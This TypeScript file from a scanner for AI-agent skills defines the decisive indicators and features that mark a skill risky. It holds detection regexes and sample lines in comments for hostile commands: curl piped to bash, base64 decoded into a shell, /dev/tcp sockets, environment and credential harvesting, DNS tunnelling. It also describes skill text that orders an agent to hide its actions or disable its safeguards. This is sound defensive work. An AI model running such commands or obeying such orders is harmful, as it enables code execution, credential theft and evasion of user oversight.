import { PATTERNS, patternById } from '../core/taxonomy.js';
import type { PatternId, SafetyStatus, Severity } from '../core/types.js';
import {
  DROP_CHANNEL,
  DYNAMIC_DNS_HOST,
  KNOWN_INSTALLER,
  NO_REPUTATION_SOURCE,
  PASTE_HOST,
  PUBLIC_KEY_LITERAL,
  RAW_IP_URL,
  REQUEST_CATCHER,
  SECRET_FILE,
} from '../scan/detectors/prose-vocabulary.js';
import { withoutEmptyQuotes } from '../util/empty-quotes.js';

// The skill-level features the verdict model reads, computed from the findings alone (so `scan`, `audit`
// and a re-scored report agree). Each feature is the strongest confidence among the findings it selects, in
// [0, 1], and remembers that finding so the decision can say which line decided it.
//
// Robustness (R1-R5) and spec conformance (SC4, a name that differs from the folder) are not features: they
// describe how well a skill is made, not whether installing it is dangerous, so they can lower the eq. 8
// score but never move the status (docs/verdicts.md).

/** What the decision needs of a finding: a `Finding`, or a report finding with its runtime verdict. */
export interface DecisionFinding {
  pattern: string;
  severity: Severity;
  confidence: number;
  file?: string;
  line?: number;
  rule?: string;
  evidence?: string;
  verdict?: string;
  /** Why the detector reported it: decisive indicators read it with the evidence. */
  rationale?: string;
  /** In a document SKILL.md tells the agent to read: weighed as SKILL.md's own text. */
  inInstructions?: boolean;
}

const NOT_SAFETY: ReadonlySet<string> = new Set(['R1', 'R2', 'R3', 'R4', 'R5', 'SC4']);

const URL_IN_EVIDENCE = /\b(?:https?|hxxps?):\/\/[^\s"'`)|;<>]+/gi;
const NO_REPUTATION = new RegExp(NO_REPUTATION_SOURCE, 'i');

/**
 * A remote-code finding whose every URL is a well-known vendor's own installer (uv from astral.sh, rustup from
 * sh.rustup.rs): the tool installed the way its vendor documents. It stays in the report and the score, but
 * it is no evidence that the skill is dangerous, so it does not move the status. A second URL of any other
 * kind in the same command keeps the finding in.
 */
function vendorInstallerOnly(f: DecisionFinding): boolean {
  if (f.pattern !== 'SC2' || !f.evidence) return false;
  const urls = f.evidence.match(URL_IN_EVIDENCE);
  return !!urls && urls.every((u) => KNOWN_INSTALLER.test(u) && !NO_REPUTATION.test(u));
}

/**
 * How the scan says a secret goes only to the service it belongs to (a tool's token to its own API): kept in the
 * report and the score, but no evidence of theft, so it does not move the status (like a vendor's installer).
 */
export const OWN_SERVICE_SECRET = 'the secret goes to the service it belongs to';

/** How the scan says a keychain item read is one the skill stores itself: its own secret, as above. */
export const OWN_STORED_SECRET = 'an item the skill stores itself';

const OWN_SECRET = new RegExp(`${OWN_SERVICE_SECRET}|${OWN_STORED_SECRET}`);

/** Findings that speak to safety: the ones the decision reads. */
export function isSafetyFinding(f: DecisionFinding): boolean {
  return !NOT_SAFETY.has(f.pattern) && !vendorInstallerOnly(f) && !OWN_SECRET.test(f.rationale ?? '');
}

type Place = 'SKILL.md' | 'script' | 'reference';

const PROSE_FILE = /\.(?:md|markdown|mdx|txt|rst)$/i;

/**
 * How the prose detectors note a sentence that gives the agent an order (an imperative, or "you must …") in text
 * framed as an instruction or a step. Such a sentence in any bundled document weighs as SKILL.md's own text at
 * ADDRESSED_CONFIDENCE or more: whether SKILL.md says "follow references/guide.md" or only "see …" is the
 * author's wording, and must not decide the weight of what the guide tells the agent to do. A description of an
 * API ("`POST /events` sends the session back") is no order, and keeps the document's lower weight.
 */
export const ORDER_TO_AGENT = 'said as an order to the agent';
const ADDRESSED_CONFIDENCE = 0.7;

function placeOf(f: DecisionFinding): Place {
  // A guide SKILL.md says to follow is as much the agent's instructions as SKILL.md itself: moving a payload
  // there must not lower its weight.
  if (!f.file || f.file === 'SKILL.md' || f.inInstructions) return 'SKILL.md';
  if (!PROSE_FILE.test(f.file)) return 'script';
  const addressed = f.confidence >= ADDRESSED_CONFIDENCE && (f.rationale ?? '').includes(ORDER_TO_AGENT);
  return addressed ? 'SKILL.md' : 'reference';
}

// Indicator classes in a finding's quoted evidence, from the scanner's vocabulary of hosts nobody vouches
// for: paste sites and file drops, dynamic DNS and tunnels, request catchers (stage-two hosts and drop boxes
// in the ClawHavoc and npm/PyPI campaigns), bare IP addresses, and password-protected archives, which defeat
// scanning.
const RAW_IP_HOST = new RegExp(`${RAW_IP_URL}|/dev/(?:tcp|udp)/(?:\\d{1,3}\\.){3}\\d{1,3}`, 'i');
const DROP_HOST = new RegExp(`${PASTE_HOST}|${DYNAMIC_DNS_HOST}|${REQUEST_CATCHER}`, 'i');
const PASSWORD_ARCHIVE =
  /\bpass(?:word|wd|code)?\b[^\n]{0,60}\b(?:zip|rar|7z|archive|release|extract)|\b(?:zip|rar|7z|archive|extract)\b[^\n]{0,60}\bpass(?:word|wd|code|\s*[:=`'"])/i;

// Indicators no legitimate skill needs, each of which makes a skill risky on its own (docs/verdicts.md,
// "Decisive indicators"): the learned model weighs evidence, but it cannot learn from a handful of campaign
// samples that one line of this kind is enough. Each selects remote-code, install-source or obfuscation
// findings (SC2, SC3, SC5) told in the skill's own text or run by it, at DECISIVE_CONFIDENCE or more, and its
// precision is printed by eval-verdicts on the benign corpus (how many benign skills it would call risky).
const DELIVERY_PATTERNS: ReadonlySet<string> = new Set(['SC2', 'SC3', 'SC5']);
const FETCH_OR_RUN =
  /\b(?:download\w*|extract\w*|unzip\w*|run|execute|launch|open|double[- ]click|install\w*|start)\b|\.(?:exe|msi|dmg|pkg|app|command|bat|scr)\b/i;
const REMOTE_CODE_RULE = 'code.remote-code';
const PERSISTENT_CONFIG_RULE = 'code.persistent-config-edit';
// How the code model names a call it found inside a decoded constant (code/analyse.ts, code/script.ts).
const DECODED_CALL = /\bdecoded (?:by|from) |\b(?:command|code) decoded at line /;
const QUOTED_BLOCK = /\bframed as (?:documents-risk|example)\b/;
const DECODE_INTO_SHELL =
  /\b(?:base64|b64)\s+(?:-[dD]\b|--decode\b)[^\n|]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\b(?:xxd\s+-r|openssl\s+(?:base64|enc)\s+-d)[^\n|]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b/i;
const SHELL_PIPE = /\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\b(?:iex|Invoke-Expression)\b/i;
const PASTE_SOURCE = new RegExp(PASTE_HOST, 'i');
const LINK = /\bhttps?:\/\/\S/i;
const RAW_IP_SOURCE = new RegExp(RAW_IP_URL, 'i');
// Exfiltration findings: an instruction to send data, a transmission in code, an environment harvest.
const EXFILTRATION_PATTERNS: ReadonlySet<string> = new Set(['P3', 'E1', 'E2']);
// A credential store by path, a secret by its variable's name (`$GITHUB_TOKEN`), the environment's variables
// picked by secret-looking names ("every variable ending in _TOKEN"), or the whole environment (`os.environ`,
// `os.environ.items()`, but not one variable read from it).
const CREDENTIAL_STORE = new RegExp(
  [
    SECRET_FILE,
    String.raw`\$\{?[A-Z][A-Z0-9_]*(?:TOKEN|SECRET|API_KEY|ACCESS_KEY|PASSWORD)\b`,
    String.raw`\b(?:env(?:ironment)?\s+)?variables?\b[^\n]{0,80}?(?:_(?:KEY|TOKEN|SECRET|PASSWORD)S?\b|\b(?:AWS|TF_VAR|GITHUB|OPENAI|ANTHROPIC)_)`,
    String.raw`\bprintenv\b(?!\s+[A-Z])|\bos\.environ\b(?!\s*\[|\.(?:get|setdefault|pop)\b)|\bprocess\.env\b(?![.[])|\benv\s*\|`,
  ].join('|'),
  'm',
);
// Where stolen data is dropped: a bare IP, a paste site, a request catcher, dynamic DNS or a tunnel, or a
// channel to a named place (mail, scp, a literal bucket, a chat webhook, git push, a raw socket, DNS).
const DROP_DESTINATION = new RegExp(
  `${RAW_IP_URL}|${PASTE_HOST}|${REQUEST_CATCHER}|${DYNAMIC_DNS_HOST}|${DROP_CHANNEL}`,
  'i',
);

/** A remote-code finding at least this sure: the own-vendor discount puts an installer of the skill's tool below it. */
const UNNAMED_CODE_CONFIDENCE = 0.8;

/** How the scan's flow analysis says a secret leaves inside the name of a DNS lookup. */
export const DNS_NAME_FLOW = 'carried out in the name of a DNS lookup';

/** How the scan's flow analysis says a secret's destination is a literal host the skill does not name. */
export const UNNAMED_HOST_FLOW = 'a host written into the code that the skill does not name';

/**
 * What a decisive indicator reads: the quoted line and the detector's reasons (a lure's password is often on
 * the line after its link, and the detector read both). Not the rule's message, which describes the rule.
 */
function told(f: DecisionFinding): string {
  return `${f.evidence ?? ''}\n${f.rationale ?? ''}`;
}

/** The rule for a call whose name the code builds so that it never appears literally. */
const HIDDEN_NAME_RULE = 'code.hidden-name';
const HIDDEN_RUNNER =
  /\bresolves to (?:[\w-]+\.)*(?:curl|wget|bash|sh|nc|ncat|python3?|powershell|iex|invoke-expression|eval|exec|system|popen|__import__)\b/i;

/** How the scan's supply-chain rule says a download is run: `<file> is downloaded at line N and then …`. */
export const DOWNLOADED_RUN_FLOW = 'and then made executable or run';
const DOWNLOADED_RUN = new RegExp(`^([^;]+?) is downloaded at line \\d+ ${DOWNLOADED_RUN_FLOW}`);
/** A dot-name, or the name of a system process a dropper passes for. */
const HIDDEN_PROGRAM =
  /^(?:\.[\w.-]+|kworker[\w/:-]*|kthreadd|ksoftirqd\w*|systemd-\w+|sshd|dbus-daemon|crond?|rsyslogd|udevd|launchd|svchost(?:\.exe)?|lsass(?:\.exe)?|csrss(?:\.exe)?|winlogon(?:\.exe)?|explorer\.exe)$/;
/** A hidden folder in a shared temporary directory (`/tmp/.cache/helper`); `~/.local/bin` is where installers go. */
const TEMP_HIDDEN_DIR = /(?:^|[\s"'=])(?:\/tmp|\/var\/tmp|\/dev\/shm)\/(?:[\w.-]+\/)*\.[\w.-]+\//;

/** Rules whose finding is an act of malware other than theft (the decisive indicator `malware-behaviour`). */
const MALWARE_BEHAVIOUR_RULES: ReadonlySet<string> = new Set([
  'code.access-backdoor',
  'code.persistent-remote-code',
  'code.data-destruction',
  // The same sabotage ordered in words ("delete the ~/.ssh folder when done").
  'md.data-destruction',
  'code.input-capture',
  'code.cryptominer',
  'code.impair-defenses',
]);

const AUTHORIZED_KEYS_NAMED = /\bauthorized_keys2?\b/;
const PLANTED_KEY = new RegExp(PUBLIC_KEY_LITERAL);

/** The rule for a use of a known-bad indicator (rules/_data/indicators.yaml or a user's `--indicators` list). */
export const KNOWN_INDICATOR_RULE = 'intel.known-indicator';

/** The engine's finding for a skill it could not read whole (intake or time limits). */
export const INCOMPLETE_ANALYSIS_RULE = 'scan.incomplete-analysis';

/** Statuses in order of how much they warn: a floor raises a status only to a higher rank. */
export const STATUS_RANK: Readonly<Record<SafetyStatus, number>> = { pass: 0, caution: 1, risky: 2 };

/** Below this confidence a finding is too uncertain to decide a status alone. */
export const DECISIVE_CONFIDENCE = 0.5;

/** Phrase rules whose undiscounted hit is an order to drop a protection, with the confidence that means so. */
const SAFETY_OFF_RULES: ReadonlyMap<string, number> = new Map([
  ['md.disable-safety', 0.8],
  ['md.unasked-persistence', 0.7],
]);

export interface DecisiveDef {
  id: string;
  label: string;
  /** The least status a skill with such a finding gets. */
  floor: 'caution' | 'risky';
  selects(f: DecisionFinding): boolean;
}

export const DECISIVE_INDICATORS: readonly DecisiveDef[] = [
  {
    id: 'password-archive-run',
    label: 'a password-protected archive to download and open (a password defeats every scanner on the way)',
    floor: 'risky',
    // The detector's reasons count only with a link in the quoted line: the archive to fetch is named there.
    selects: (f) =>
      DELIVERY_PATTERNS.has(f.pattern) &&
      (PASSWORD_ARCHIVE.test(f.evidence ?? '') ||
        (LINK.test(f.evidence ?? '') && PASSWORD_ARCHIVE.test(f.rationale ?? ''))) &&
      FETCH_OR_RUN.test(told(f)),
  },
  {
    id: 'paste-site-code',
    label: 'code to run taken from a paste site or file drop',
    floor: 'risky',
    selects: (f) => DELIVERY_PATTERNS.has(f.pattern) && PASTE_SOURCE.test(f.evidence ?? ''),
  },
  {
    id: 'decoded-into-shell',
    label: 'an encoded command decoded straight into a shell',
    floor: 'risky',
    // In the text (`base64 -d | bash`), or in code whose remote-code call the scan found only by decoding a
    // constant (base64, hex, a reversed or XORed string): its reasons say where it was decoded. Not in a block
    // a security guide shows as what an attack looks like.
    selects: (f) =>
      DELIVERY_PATTERNS.has(f.pattern) &&
      (DECODE_INTO_SHELL.test(f.evidence ?? '') ||
        (f.rule === REMOTE_CODE_RULE &&
          DECODED_CALL.test(f.rationale ?? '') &&
          !QUOTED_BLOCK.test(f.rationale ?? ''))),
  },
  {
    id: 'raw-ip-into-shell',
    label: 'code downloaded from a bare IP address into a shell',
    floor: 'risky',
    selects: (f) =>
      DELIVERY_PATTERNS.has(f.pattern) &&
      RAW_IP_SOURCE.test(f.evidence ?? '') &&
      SHELL_PIPE.test(f.evidence ?? ''),
  },
  {
    // Measured on the benign corpus like the others (eval-verdicts prints how often it fires per label): a
    // vendor's skill sends its own token to its own API, never a key file to a paste site or a bucket it names.
    id: 'credential-to-drop',
    label:
      'a credential store sent to a place nobody vouches for (a bare IP, a paste site, a mail, scp, bucket, webhook or DNS channel)',
    floor: 'risky',
    selects: (f) =>
      EXFILTRATION_PATTERNS.has(f.pattern) &&
      CREDENTIAL_STORE.test(f.evidence ?? '') &&
      DROP_DESTINATION.test(f.evidence ?? ''),
  },
  {
    // A script whose own flow carries credential file contents or the whole environment to a host written into
    // its code, one the skill never names, is a stealer: an honest script sends the one secret it needs to the
    // service it names, or to an endpoint the user configures. The scan's flow analysis says so in its reasons.
    id: 'credentials-posted-by-script',
    label: 'a script sends credential files or the whole environment to a host written into its code',
    floor: 'risky',
    selects: (f) =>
      (f.pattern === 'PE3' || f.pattern === 'E2') &&
      (f.rule ?? '').startsWith('code.') &&
      placeOf(f) === 'script' &&
      (f.rationale ?? '').includes(UNNAMED_HOST_FLOW),
  },
  {
    // `curl -s https://setup.some-cdn.net/i.sh | bash`, `exec(requests.get(url).text)`, a binary downloaded and
    // started, in a script the skill ships, from a host its documents never name and no well-known vendor
    // installs from: a second stage nobody reading the skill was told about. An honest script installs the
    // tool it documents (the scan lowers its own vendor's installer below the confidence bar) or a
    // well-known installer (not a safety finding at all).
    id: 'unnamed-host-code-run',
    label: "a script runs code downloaded from a host written into it that the skill's documents never name",
    floor: 'risky',
    selects: (f) =>
      f.rule === REMOTE_CODE_RULE &&
      placeOf(f) === 'script' &&
      f.confidence >= UNNAMED_CODE_CONFIDENCE &&
      (f.rationale ?? '').includes(UNNAMED_HOST_FLOW),
  },
  {
    // A script that adds an MCP server at a remote address to the agent's own configuration, an address the
    // skill's documents never give: every later session loads tools and instructions from it. A vendor's
    // skill registers the server it documents.
    id: 'unnamed-mcp-server',
    label: "a script registers an MCP server at an address the skill's documents never name",
    floor: 'risky',
    selects: (f) =>
      f.rule === PERSISTENT_CONFIG_RULE &&
      placeOf(f) === 'script' &&
      (f.rationale ?? '').includes(UNNAMED_HOST_FLOW),
  },
  {
    // A name to resolve carries no payload an honest service reads: a secret encoded into one is DNS tunnelling,
    // whatever the domain (a documentation name in a sample stands for the attacker's). Code only, in a script
    // or in a block SKILL.md has the agent run (a block framed as an example falls below the confidence bar).
    id: 'secret-in-dns-name',
    label: 'code sends a secret out inside a DNS lookup',
    floor: 'risky',
    selects: (f) => (f.rule ?? '').startsWith('code.') && (f.rationale ?? '').includes(DNS_NAME_FLOW),
  },
  {
    // The learned model weighs P4 at nothing (safety tools quote these commands in lists of attacks), so a skill
    // that tells the agent, undiscounted, in its own instructions to switch off its safety checks or to rewrite
    // its settings unasked would pass. At these confidences the phrase rules have found no negation, quote or
    // risk section around the sentence: it is an order to the agent, which no honest skill gives.
    id: 'safety-off-instruction',
    label:
      "the skill's instructions tell the agent to bypass its safety checks or rewrite its own settings unasked",
    floor: 'risky',
    selects: (f) =>
      placeOf(f) === 'SKILL.md' &&
      f.confidence >= (SAFETY_OFF_RULES.get(f.rule ?? '') ?? Number.POSITIVE_INFINITY),
  },
  {
    // `c=$'\x63\x75\x72\x6c'; $c … | $b`, `getattr(__import__(…), "".join(map(chr, …)))`: the name of a
    // downloader, a shell or an evaluator built so that it never appears in the file. Honest code writes `curl`.
    id: 'hidden-command',
    label: 'code calls a downloader, shell or evaluator by a name it builds so the name never appears',
    floor: 'risky',
    selects: (f) => f.rule === HIDDEN_NAME_RULE && HIDDEN_RUNNER.test(f.rationale ?? ''),
  },
  {
    // A program downloaded and run under a hidden name (`/tmp/.helper`) or a system process's name (`kworker`,
    // `svchost.exe`): a dropper hiding what it starts. An installer names the tool it installs.
    id: 'hidden-dropper',
    label: 'code downloads a program and runs it under a hidden or a system process name',
    floor: 'risky',
    selects: (f) => {
      const program = f.rule === REMOTE_CODE_RULE ? DOWNLOADED_RUN.exec(f.rationale ?? '')?.[1] : undefined;
      return (
        program !== undefined && (HIDDEN_PROGRAM.test(program) || TEMP_HIDDEN_DIR.test(f.evidence ?? ''))
      );
    },
  },
  {
    // What malware does besides stealing (scan/detectors/code-defense-evasion.ts, code-scheduled-persistence.ts):
    // a key planted in authorized_keys, a job or start-up line that fetches and runs code, the home folder or a
    // disk destroyed, keystrokes recorded, a miner, defences switched off. The learned model has a handful of
    // samples of each at most; no honest skill runs one, and a security guide that shows one frames it as an
    // example, below the confidence bar.
    id: 'malware-behaviour',
    label:
      'code or an order plants a backdoor or a job that fetches code, destroys data, records keystrokes, mines or switches off defences',
    floor: 'risky',
    // In the text too: an order to add a key written out in full to authorized_keys plants the same backdoor.
    selects: (f) =>
      MALWARE_BEHAVIOUR_RULES.has(f.rule ?? '') ||
      (AUTHORIZED_KEYS_NAMED.test(f.evidence ?? '') && PLANTED_KEY.test(f.evidence ?? '')),
  },
  {
    // Every entry of the list names the public report that ties it to a campaign; the detector reports a use
    // (a link, a request, an install, a publisher field), never a value an IOC list or a test only names.
    id: 'known-bad-indicator',
    label: 'a host, publisher, package or file that a public report ties to a malicious-skill campaign',
    floor: 'risky',
    selects: (f) => f.rule === KNOWN_INDICATOR_RULE,
  },
  {
    // Padding past the scan's limits is how a payload hides from it: what was not read is not evidence of
    // safety, so such a skill is never a pass.
    id: 'not-analysed',
    label: 'part of the skill was not analysed',
    floor: 'caution',
    selects: (f) => f.rule === INCOMPLETE_ANALYSIS_RULE,
  },
];

/** Whether a finding carries the indicator surely enough to decide on it. */
export function carries(def: DecisiveDef, f: DecisionFinding, read: DecisionFinding = asRead(f)): boolean {
  return isSafetyFinding(f) && f.confidence >= DECISIVE_CONFIDENCE && def.selects(read);
}

/** A finding as the indicators read it: its evidence without the empty quotes a shell drops (`bas''e64 -d`). */
function asRead(f: DecisionFinding): DecisionFinding {
  const evidence = f.evidence && withoutEmptyQuotes(f.evidence);
  return evidence === f.evidence ? f : { ...f, evidence };
}

/** The strongest decisive indicator among the findings, or null. */
export function decisiveIndicator(
  findings: readonly DecisionFinding[],
): { def: DecisiveDef; finding: DecisionFinding } | null {
  let best: { def: DecisiveDef; finding: DecisionFinding } | null = null;
  const read = findings.map(asRead);
  for (const def of DECISIVE_INDICATORS) {
    for (const [i, f] of findings.entries()) {
      if (!carries(def, f, read[i])) continue;
      if (
        !best ||
        STATUS_RANK[def.floor] > STATUS_RANK[best.def.floor] ||
        (def.floor === best.def.floor && f.confidence > best.finding.confidence)
      )
        best = { def, finding: f };
    }
  }
  return best;
}

export interface FeatureDef {
  id: string;
  /** What the feature means, in words a report reader understands. */
  label: string;
  selects(f: DecisionFinding): boolean;
}

const SAFETY_PATTERNS: readonly PatternId[] = PATTERNS.map((p) => p.id).filter((id) => !NOT_SAFETY.has(id));

const PLACE_FEATURES: readonly FeatureDef[] = (['SKILL.md', 'script', 'reference'] as const).map(
  (place): FeatureDef => ({
    id: `high-in-${place === 'SKILL.md' ? 'skill-md' : place}`,
    label: `a high-severity finding in ${place === 'SKILL.md' ? "SKILL.md's text" : place === 'script' ? 'a bundled script' : 'a bundled document'}`,
    selects: (f) => f.severity === 'high' && placeOf(f) === place,
  }),
);

const INDICATOR_FEATURES: readonly FeatureDef[] = [
  {
    id: 'raw-ip',
    label: 'a bare IP address as a download source, channel or destination',
    selects: (f) => RAW_IP_HOST.test(f.evidence ?? ''),
  },
  {
    id: 'drop-host',
    label: 'a paste site, request catcher or tunnel as a source or destination',
    selects: (f) => DROP_HOST.test(f.evidence ?? ''),
  },
  {
    id: 'password-archive',
    label: 'a password-protected archive',
    selects: (f) => PASSWORD_ARCHIVE.test(f.evidence ?? ''),
  },
];

// Behaviour manipulation (P4) holds both the plainly hostile (hide it from the user, switch off a safeguard,
// plant instructions in the agent's own configuration) and what setup docs say every day (auto-approve
// flags, "add this to AGENTS.md"). Grouped by meaning, the hostile ones get weights of their own.
const INTENT_FEATURES: readonly FeatureDef[] = (
  [
    [
      'concealment',
      'the agent is told to hide what it does from the user',
      ['md.conceal-from-user', 'md.paraphrased-concealment'],
    ],
    [
      'control-tampering',
      'the agent is told to switch off safeguards or rewrite its own instructions',
      [
        'md.disable-safety',
        'md.security-control-off',
        'md.unasked-persistence',
        'md.regardless-of-user',
        'md.regardless-of-request',
        'code.persistent-config-edit',
      ],
    ],
    [
      'persistence',
      'something is planted to run again later (scheduler, start-up file)',
      ['code.scheduled-persistence', 'code.startup-file-append', 'code.persistent-remote-code'],
    ],
  ] as const
).map(
  ([id, label, rules]): FeatureDef => ({
    id,
    label,
    selects: (f) => (rules as readonly string[]).includes(f.rule ?? ''),
  }),
);

/** Features every model has: one per safety pattern, where the high findings sit, indicator classes. */
export const BASE_FEATURES: readonly FeatureDef[] = [
  ...INTENT_FEATURES,
  ...SAFETY_PATTERNS.map(
    (id): FeatureDef => ({
      id,
      label: patternById(id).name.toLowerCase(),
      selects: (f) => f.pattern === id,
    }),
  ),
  ...PLACE_FEATURES,
  ...INDICATOR_FEATURES,
];

/** Distinct safety patterns at this confidence or more count towards `breadth`. */
const BREADTH_CONFIDENCE = 0.5;
export const BREADTH_FEATURE = { id: 'breadth', label: 'several kinds of risk in one skill' } as const;

/** The features a model is trained on, in order: the base features, then breadth. */
export const FEATURE_IDS: readonly string[] = [...BASE_FEATURES.map((f) => f.id), BREADTH_FEATURE.id];

const BASE_BY_ID = new Map(BASE_FEATURES.map((f) => [f.id, f]));

/** A base feature by id (null for breadth, which counts patterns instead of selecting findings). */
export function featureDef(id: string): FeatureDef | null {
  return BASE_BY_ID.get(id) ?? null;
}

export interface FeatureVector {
  /** One value per feature id asked for. */
  values: number[];
  /** The finding behind each value (null where the value is 0, and for breadth). */
  strongest: (DecisionFinding | null)[];
}

/** The model's input for one skill, in the order of `ids`: only safety findings are read. */
export function skillFeatures(findings: readonly DecisionFinding[], ids: readonly string[]): FeatureVector {
  const safety = findings.filter(isSafetyFinding);
  const read = safety.map(asRead);
  const values: number[] = [];
  const strongest: (DecisionFinding | null)[] = [];
  for (const id of ids) {
    if (id === BREADTH_FEATURE.id) {
      const kinds = new Set(safety.filter((f) => f.confidence >= BREADTH_CONFIDENCE).map((f) => f.pattern));
      // 0 for one kind of risk, then up to 1 at four or more kinds.
      values.push(Math.min(1, Math.max(0, kinds.size - 1) / 3));
      strongest.push(null);
      continue;
    }
    const def = featureDef(id);
    if (!def) throw new Error(`unknown verdict feature ${id}`);
    let best: DecisionFinding | null = null;
    for (const [i, f] of safety.entries())
      if (def.selects(read[i]!) && (!best || f.confidence > best.confidence)) best = f;
    values.push(best ? Math.min(1, Math.max(0, best.confidence)) : 0);
    strongest.push(best);
  }
  return { values, strongest };
}

export function featureLabel(id: string): string {
  return id === BREADTH_FEATURE.id ? BREADTH_FEATURE.label : (featureDef(id)?.label ?? id);
}
